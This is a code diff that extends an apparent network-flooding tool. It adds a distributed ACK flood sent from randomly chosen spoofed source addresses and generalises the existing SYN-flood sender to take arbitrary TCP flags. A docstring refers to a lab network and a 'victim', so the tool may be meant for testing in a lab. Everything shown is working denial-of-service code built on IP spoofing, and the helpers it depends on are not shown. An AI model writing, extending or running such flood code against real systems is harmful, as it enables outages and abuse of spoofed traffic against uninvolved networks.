@@ -29,6 +29,18 @@ def distributed_syn_flood(opts: Options) -> dict:
     return tally.report(opts, spoof_cidr=cidr, sources=len(sources))
 
 
+def distributed_ack_flood(opts: Options) -> dict:
+    """ACK segments of no flow from many spoofed sources (each draws a reset if let in)."""
+    cidr = opts.spoof_cidr or default_spoof_cidr(opts.target)
+    if ipaddress.ip_address(opts.target).version != ipaddress.ip_network(cidr, strict=False).version:
+        raise ValueError(f"--spoof-cidr {cidr} is not the target's address family")
+    sources = spoofed_sources(cidr, opts.sources, opts.seed)
+    if sources[0].version == 6:
+        packets.wait_link_local_ready()
+    tally = _send_syns(opts, [a.packed for a in sources], packets.ACK_FLAGS)
+    return tally.report(opts, spoof_cidr=cidr, sources=len(sources))
+
+
 def default_spoof_cidr(target: str) -> str:
     """Beside the lab's links (10.N.<link>.0/24, fd00:N:<link>::/64) but on none of them,
     so the victim routes its answers to its default gateway instead of resolving each
@@ -53,8 +65,8 @@ def spoofed_sources(cidr: str, n: int, seed: int) -> list[ipaddress.IPv4Address 
     return [net.network_address + offset + i for i in picks]
 
 
-def _send_syns(opts: Options, sources: list[bytes]) -> Tally:
-    builder = SynBuilder(opts.target, opts.port)
+def _send_syns(opts: Options, sources: list[bytes], flags: int = packets.SYN_FLAGS) -> Tally:
+    builder = SynBuilder(opts.target, opts.port, flags)
     sums = [word_sum(s) for s in sources]
     seq0 = random.Random(opts.seed).getrandbits(32)
     dest = (opts.target, 0)
